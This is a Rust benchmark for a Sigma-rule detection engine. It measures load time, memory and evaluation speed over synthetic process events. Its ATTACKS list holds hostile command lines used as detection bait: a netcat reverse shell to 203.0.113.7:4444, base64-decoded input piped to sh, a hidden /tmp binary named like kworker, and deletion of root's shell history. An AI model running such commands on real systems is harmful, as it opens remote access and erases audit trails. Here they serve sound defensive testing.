//! Sigma evaluation speed, load time and memory of the compiled rule set.
//!
//! Events: synthetic `process.start` events as the process source emits them (about 400 bytes of
//! JSON each): 99 % benign commands from 24 server templates with varying arguments, 1 % attack
//! command lines that the rules catch. Each is evaluated the way the agent does it
//! (`SigmaSet::detect`: route by kind, evaluate, build alerts for matches at medium and above).
//!
//! ```text
//! cargo bench -p picket-sigma --bench sigma
//! taskset -c 1 cargo bench -p picket-sigma --bench sigma      # pinned to one core
//! ```
//!
//! Before the criterion runs it prints the rule counts, load time (parse + compile) and the
//! resident-memory growth of loading each set (VmRSS before and after, this process).

use std::hint::black_box;
use std::path::{Path, PathBuf};
use std::time::Instant;

use criterion::{Criterion, Throughput, criterion_group};
use picket_event::{Event, EventKind, ParentProcess, Process, Timestamp, User};
use picket_sigma::{Level, SigmaSet, load};

fn files(dir: &Path) -> Vec<PathBuf> {
    let mut out = Vec::new();
    for e in std::fs::read_dir(dir).unwrap() {
        let p = e.unwrap().path();
        if p.extension().is_some_and(|x| x == "yml") {
            out.push(p);
        }
    }
    out.sort();
    out
}

fn corpus(category: &str) -> Vec<PathBuf> {
    files(&Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/data/sigmahq-linux").join(category))
}

fn shipped_process() -> Vec<PathBuf> {
    files(&Path::new(env!("CARGO_MANIFEST_DIR")).join("../../policies/sigma/process_creation"))
}

const BENIGN: &[&str] = &[
    "/usr/bin/systemctl status nginx.service --no-pager",
    "/usr/sbin/sshd -D -R",
    "/usr/bin/python3 /opt/app/worker.py --queue default --concurrency 4",
    "/usr/bin/grep -E ^ERROR /var/log/app/app.log",
    "/usr/bin/curl -fsS http://127.0.0.1:8080/healthz",
    "/usr/bin/tar -czf /var/backups/etc-20261124.tar.gz /etc",
    "/usr/sbin/iptables-save",
    "/usr/sbin/cron -f",
    "/usr/bin/mosquitto_pub -h 127.0.0.1 -t sensors/temp -m 21.5",
    "/usr/bin/logrotate /etc/logrotate.conf",
    "/usr/bin/rsync -a /srv/data/ /mnt/backup/data/",
    "/usr/bin/awk -F: {print $1} /etc/hostname",
    "/usr/bin/sed -n 1,20p /var/log/syslog",
    "/usr/bin/find /var/cache/apt -name *.deb -mtime +30",
    "/usr/bin/git -C /srv/repo pull --ff-only",
    "/usr/bin/apt-get -qq update",
    "/usr/bin/dpkg-query -W -f=${Status} openssh-server",
    "/usr/bin/ip -j addr show dev eth0",
    "/usr/bin/journalctl -u ssh --since -5m --no-pager",
    "/usr/bin/sleep 30",
    "/usr/bin/date +%s",
    "/usr/bin/df -h /",
    "/usr/bin/ps -eo pid,comm,rss",
    "/usr/local/bin/node /srv/app/server.js --port 3000",
];

const ATTACKS: &[&str] = &[
    "/usr/bin/nc -e /bin/sh 203.0.113.7 4444",
    "/usr/bin/sh -c echo ZWNobyBoaQ== | base64 -d | sh",
    "/tmp/.x/kworker -c /tmp/.x/cfg",
    "/usr/bin/rm -f /root/.bash_history",
];

fn event(line: &str, i: usize) -> Event {
    let mut argv: Vec<String> = line.split(' ').map(str::to_string).collect();
    argv.push(format!("--run={i}"));
    let mut ev = Event::new(EventKind::ProcessStart, Timestamp::from_unix_nanos(1_700_000_000_000_000_000));
    ev.seq = u64::try_from(i).unwrap_or(0) + 1;
    ev.process = Some(Process {
        pid: Some(10_000 + u32::try_from(i % 50_000).unwrap_or(0)),
        executable: Some(argv[0].clone()),
        command_line: Some(argv.join(" ")),
        args: Some(argv),
        working_directory: Some("/".into()),
        start_ticks: Some(123_456),
        parent: Some(ParentProcess {
            pid: Some(1),
            executable: Some("/usr/lib/systemd/systemd".into()),
            command_line: Some("/sbin/init".into()),
            ..Default::default()
        }),
        ..Default::default()
    });
    ev.user = Some(User { name: Some("root".into()), id: Some("0".into()) });
    ev
}

fn events(n: usize) -> Vec<Event> {
    (0..n)
        .map(|i| {
            if i % 100 == 99 {
                event(ATTACKS[(i / 100) % ATTACKS.len()], i)
            } else {
                event(BENIGN[i % BENIGN.len()], i)
            }
        })
        .collect()
}

fn rss_kib() -> u64 {
    let s = std::fs::read_to_string("/proc/self/status").unwrap_or_default();
    s.lines()
        .find(|l| l.starts_with("VmRSS:"))
        .and_then(|l| l.split_whitespace().nth(1))
        .and_then(|n| n.parse().ok())
        .unwrap_or(0)
}

fn report(name: &str, files: &[PathBuf]) -> SigmaSet {
    let before = rss_kib();
    let t = Instant::now();
    let (set, report) = load(files, Level::Medium).expect("rules load");
    let took = t.elapsed();
    let after = rss_kib();
    println!(
        "sigma {name}: {} rules from {} files, load (parse + compile) {:.1} ms, RSS +{} KiB",
        set.len(),
        report.files,
        took.as_secs_f64() * 1e3,
        after.saturating_sub(before)
    );
    set
}

fn bench(c: &mut Criterion) {
    let evs = events(10_000);
    let mut g = c.benchmark_group("sigma");
    g.throughput(Throughput::Elements(evs.len() as u64));
    for (name, files) in
        [("process_creation_all_122", corpus("process_creation")), ("shipped_process_90", shipped_process())]
    {
        let mut set = report(name, &files);
        let mut out = Vec::new();
        let mut alerts = 0usize;
        for ev in &evs {
            set.detect(ev, &mut out);
            alerts += out.len();
            out.clear();
        }
        println!("sigma {name}: {alerts} alerts (medium+) on {} events", evs.len());
        g.bench_function(name, |b| {
            b.iter(|| {
                for ev in &evs {
                    set.detect(black_box(ev), &mut out);
                    out.clear();
                }
            })
        });
    }
    g.finish();
}

criterion_group!(benches, bench);

fn main() {
    benches();
    Criterion::default().configure_from_args().final_summary();
}
